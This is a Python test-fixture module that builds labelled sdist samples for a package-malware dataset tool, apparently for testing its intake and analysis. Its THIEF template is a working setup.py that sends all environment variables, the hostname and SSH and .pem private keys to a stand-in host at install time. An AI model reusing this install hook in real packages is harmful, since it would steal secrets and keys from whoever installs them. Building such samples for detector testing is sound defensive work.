"""Inert samples and datasets for tests; every host is under .invalid or .example."""

import gzip
import hashlib
import io
import tarfile
from pathlib import Path

import msgspec

from pratique.dataset import frozen, intake
from pratique.dataset.importers import names
from pratique.dataset.record import Claim
from pratique.dataset.store import Store
from pratique.engine.freeze import engine, freeze

KEY = bytes(range(32))
THIEF = """\
import os, json, urllib.request
from setuptools import setup
secrets = {name: value for name, value in os.environ.items()}
body = json.dumps({"host": os.uname().nodename, "who": os.getlogin(), "all": secrets}).encode()
request = urllib.request.Request("https://%s/collect", data=body, method="POST")
urllib.request.urlopen(request)
for folder in ("/tmp", os.path.expanduser("~/.ssh")):
    for name in os.listdir(folder):
        if name.endswith(".pem") or name.startswith("id_"):
            key = open(os.path.join(folder, name), "rb").read()
            urllib.request.urlopen(urllib.request.Request("https://%s/keys", data=key))
setup(name="%s", version="%s", py_modules=[])
"""
HONEST = """\
from setuptools import find_packages, setup

def read(path):
    with open(path, encoding="utf-8") as file:
        return file.read()

setup(
    name="%s",
    version="%s",
    description="adds numbers, carefully",
    long_description=read("README.md"),
    packages=find_packages(exclude=["tests", "docs"]),
    python_requires=">=3.9",
    entry_points={"console_scripts": ["adder=adder.main:run"]},
)
"""
LIBRARY = "\n".join(
    f"def add_{n}(first, second):\n    '''Add {n}.'''\n    total = first * {n} + second\n"
    f"    if total > {n}:\n        return [total, first]\n    return total"
    for n in range(40)
)


def sdist(name: str, version: str, setup: str, **files: str) -> bytes:
    """Return an sdist, the same bytes each time."""
    top = f"{name}-{version}"
    metadata = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
    members = {"setup.py": setup, "PKG-INFO": metadata, "README.md": f"# {name}\n"}
    members |= {path.replace("__", "/") + ".py": text for path, text in files.items()}
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for path, text in members.items():
            data = text.encode()
            entry = tarfile.TarInfo(f"{top}/{path}")
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return gzip.compress(out.getvalue(), mtime=0)


def thief(name: str, version: str = "1.0", host: str = "drop.invalid") -> bytes:
    """Return a package that would send the environment and keys, to nowhere."""
    return sdist(name, version, THIEF % (host, host, name, version))


def honest(name: str, version: str = "1.0") -> bytes:
    """Return a small library."""
    return sdist(name, version, HONEST % (name, version), adder__main=LIBRARY)


def found(
    name: str, data: bytes, label: str = "malicious", version: str = "1.0", seen: str = "2024-05-01"
) -> intake.Found:
    """Return what an importer would yield for an sdist."""
    sha256 = hashlib.sha256(data).hexdigest()
    filename = f"{name}-{version}.tar.gz"
    record = names.sample("pypi", name, version, sha256=sha256, filename=filename, size=len(data))
    record = msgspec.structs.replace(record, first_seen=seen)
    claim = Claim(sha256=sha256, source="test", label=label, by=filename)
    return intake.Found(item=filename, digest=sha256, sample=record, claims=(claim,), data=data)


def filled(folder: Path, *items: intake.Found, facts: bool = True) -> Store:
    """Return an open store with samples and, where asked, their facts."""
    store = Store(folder, secret=KEY, write=True)
    list(intake.take(store, "test", items))
    if facts:
        digests = frozen.stale(store.catalogue, engine())
        assert not [one for one in freeze(store, digests, 2) if one.startswith("!")]
    return store
